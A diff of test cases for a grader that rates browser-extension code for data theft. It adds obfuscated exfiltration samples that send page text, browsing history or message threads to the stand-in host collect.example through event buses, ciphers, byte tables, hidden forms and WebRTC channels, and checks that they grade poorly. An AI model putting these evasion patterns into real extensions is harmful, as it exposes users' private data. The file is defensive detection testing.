@@ -53,6 +53,36 @@ it.each<[string, (data: string) => string]>([
     (data) =>
       `class Bus extends EventTarget { tell(n, d) { this.dispatchEvent(new CustomEvent(n, { detail: d })); } hear(n, f) { this.addEventListener(n, (e) => f(e.detail)); } } const bus = new Bus(); bus.hear('all', (l) => ${send('l')}); (async () => bus.tell('all', await ${data}))();`,
   ],
+  [
+    'lists of listeners in a map that a variable is given twice',
+    (data) =>
+      `function hub(all) { return { all: (all = all || new Map()), on(t, f) { var list = all.get(t); list ? list.push(f) : all.set(t, [f]); }, emit(t, v) { var list = all.get(t); list && list.slice().map(function (f) { f(v); }); (list = all.get('*')) && list.slice().map(function (f) { f(t, v); }); } }; } const bus = hub(); bus.on('all', (l) => ${send('l')}); (async () => bus.emit('all', await ${data}))();`,
+  ],
+  [
+    'a CommonJS module in a bundle',
+    (data) =>
+      `var __esModuleOf = (m) => (m && m.__esModule ? m : Object.assign({}, m, { default: m })); var lazy = (cb, mod) => function () { return mod || (0, cb[Object.getOwnPropertyNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; }; var require_pack = lazy({ 'node_modules/pack/index.js'(exports, module) { exports.pack = pack; function pack(x) { return JSON.stringify(x); } } }); var import_pack = __esModuleOf(require_pack()); (async () => { fetch('https://collect.example/x', { method: 'POST', body: import_pack.pack(await ${data}) }); })();`,
+  ],
+  [
+    'letters that stand for letters of another alphabet',
+    (data) =>
+      `const PLAIN = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'; const OWN = 'QWERTZUIOPASDFGHJKLYXCVBNM'; const turn = (text) => Array.from(text, (c) => OWN[PLAIN.indexOf(c)] ?? '').join(''); (async () => { ${send(`turn(JSON.stringify(await ${data}))`)}; })();`,
+  ],
+  [
+    'bytes that a table turns into others, written through a view',
+    (data) =>
+      `function table() { const t = new Uint16Array(256); for (let i = 0; i < 256; i++) t[i] = i * 3; return t; } const T = table(); function put(to, at, n) { to[at] |= n; to[at + 1] |= n >> 8; } function pack(bytes) { const out = new Uint8Array(bytes.length * 2 + 4); const body = out.subarray(4); for (let i = 0; i < bytes.length; i++) put(body, i * 2, T[bytes[i]]); return out.subarray(0, body.length); } (async () => { fetch('https://collect.example/x', { method: 'POST', body: pack(new TextEncoder().encode(JSON.stringify(await ${data}))) }); })();`,
+  ],
+  [
+    'what a class gives turn by turn',
+    (data) =>
+      `class All { constructor(l) { this.l = l; } *[Symbol.iterator]() { for (const one of this.l) yield one.value; } } (async () => { const out = []; for (const one of new All(await ${data})) out.push(one); ${send('out')}; })();`,
+  ],
+  [
+    'a channel that a promise gives',
+    (data) =>
+      `let channel = null; async function connect() { const pc = new RTCPeerConnection(); const ch = pc.createDataChannel('x'); return new Promise((done) => { ch.onopen = () => done(ch); }); } (async () => { channel = channel || (await connect()); channel.send(JSON.stringify(await ${data})); })();`,
+  ],
 ])('%s', async (_, program) => {
   expect(await graded({ background: program(TAKEN) })).toBe('F');
   expect(await graded({ background: program('Promise.resolve([1, 2])') })).toMatch(/^A/);
@@ -97,4 +127,34 @@ it('a script whose address stands where a setting is read', async () => {
     `chrome.runtime.onMessage.addListener((m, s, reply) => { chrome.storage.local.get({ skin: '${skin}' }, (r) => reply({ skin: r.skin })); return true; });`;
   expect(await graded({ content, background: background('https://skins.example/base.js') })).toMatch(/^[CDF]/);
   expect(await graded({ content, background: background('plain') })).toMatch(/^A/);
+});
+
+it('a form whose address its class was given, filled by another method', async () => {
+  const content = (data: string): string =>
+    `class Shipper { constructor(target) { this.target = target; } field(form, name, value) { const input = document.createElement('input'); input.name = name; input.value = value; form.append(input); } send(rows) { const form = document.createElement('form'); Object.assign(form, { method: 'post', action: this.target }); rows.forEach(({ id }, i) => this.field(form, 'l' + i, id)); document.body.append(form); form.submit(); } } new Shipper('https://collect.example/x').send([{ id: ${data} }]);`;
+  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[DF]/);
+  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
+});
+
+it('history is not asked for by opening a popup, but by a click in it', async () => {
+  const sending =
+    "const all = await chrome.history.search({ text: '' }); fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(all) });";
+  const manifest = { permissions: ['history'] };
+  expect(await graded({ popup: `(async () => { ${sending} })();`, manifest })).toMatch(/^[DF]/);
+  const clicked = `document.getElementById('b').onclick = async () => { ${sending} };`;
+  expect(await graded({ popup: clicked, manifest })).toMatch(/^[AB]/);
+});
+
+it('what people write to one another is theirs on whatever site', async () => {
+  const content = `setInterval(() => { ${send("document.querySelector('.thread').innerText")}; }, 9000);`;
+  const on = (site: string): Promise<string> =>
+    graded({
+      content,
+      manifest: {
+        host_permissions: [`https://${site}/*`, 'https://collect.example/*'],
+        content_scripts: [{ matches: [`https://${site}/*`], js: ['content.js'] }],
+      },
+    });
+  expect(await on('mail.google.com')).toMatch(/^[CDF]/);
+  expect(await on('www.shop.test')).toMatch(/^A/);
 });
